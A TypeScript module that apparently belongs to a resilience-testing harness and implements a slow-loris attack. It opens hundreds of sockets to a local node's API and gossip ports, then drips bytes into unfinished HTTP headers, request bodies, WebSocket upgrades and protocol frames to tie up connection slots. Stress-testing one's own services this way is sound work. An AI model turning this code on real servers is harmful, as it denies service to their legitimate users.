/**
 * Slow loris: connections that never finish what they begin. Bytes dribble into handshakes, frames
 * of the request protocol, heads of HTTP requests and WebSocket messages; every one of them holds a
 * place that an honest one might need.
 */
import { connect, type Socket } from 'node:net';
import { codeOf, PacedAttack, type AttackOptions } from './attack.ts';
import { Crowd } from './crowd.ts';
import { portOf } from './target.ts';

const MAX_SOCKETS = 400;
const FRAME_PEERS = 2;
const UPGRADE = 'GET /api/events/v1 HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\n';
const KEY =
  'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n' +
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n';
/** What a connection begins with, and the byte that it goes on with. */
const BEGINNINGS: readonly { readonly on: 'api' | 'gossip'; begin: string; drip: string }[] = [
  { on: 'api', begin: 'GET /api/core/v1/info HTTP/1.1\r\nHost: a\r\nX-Slow: ', drip: 'x' },
  {
    on: 'api',
    begin: 'POST /api/core/v1/blocks HTTP/1.1\r\nHost: a\r\nContent-Length: 500\r\n\r\n',
    drip: 'x',
  },
  { on: 'api', begin: UPGRADE + KEY, drip: '\x01' },
  { on: 'gossip', begin: '', drip: '\x13' },
  { on: 'gossip', begin: '\x13/multistream/1.0.0\n', drip: '\x0b' },
];

export class SlowLoris extends PacedAttack {
  readonly #sockets = new Set<Socket>();
  readonly #drips = new Map<Socket, string>();
  readonly #crowd: Crowd;
  readonly #timer: NodeJS.Timeout;
  #opened = 0;

  constructor(options: AttackOptions) {
    super('slow-loris', options);
    this.#crowd = new Crowd(options.target, FRAME_PEERS, this.tally);
    this.#timer = setInterval(() => this.#drip(), 1_000);
  }

  protected async prepare(): Promise<void> {
    await this.#crowd.fill();
    for (const peer of this.#crowd.peers) {
      const stream = await peer.openStream();
      // A frame of 100 bytes, of which one comes now and then and the rest never.
      stream.send(Uint8Array.of(100, 0, 0, 0, 1));
    }
  }

  protected act(count: number): Promise<void> {
    for (let index = 0; index < count && this.#sockets.size < MAX_SOCKETS; index += 1) {
      const kind = BEGINNINGS[this.#opened++ % BEGINNINGS.length];
      if (kind === undefined) continue;
      const api = Number(new URL(this.target.urls[0] ?? '').port);
      const port = kind.on === 'api' ? api : portOf(this.target.peers[0] ?? '');
      const socket = connect(port, '127.0.0.1');
      this.tally.sent += 1;
      this.#sockets.add(socket);
      this.#drips.set(socket, kind.drip);
      socket.on('error', (error) => this.tally.refuse(codeOf(error)));
      socket.on('close', () => {
        this.tally.note(`${kind.on} closed`);
        this.#sockets.delete(socket);
        this.#drips.delete(socket);
      });
      socket.resume();
      socket.write(kind.begin);
    }
    return Promise.resolve();
  }

  protected async finish(): Promise<void> {
    clearInterval(this.#timer);
    for (const socket of this.#sockets) socket.destroy();
    await this.#crowd.stop();
  }

  #drip(): void {
    for (const [socket, byte] of this.#drips) if (socket.writable) socket.write(byte);
  }
}
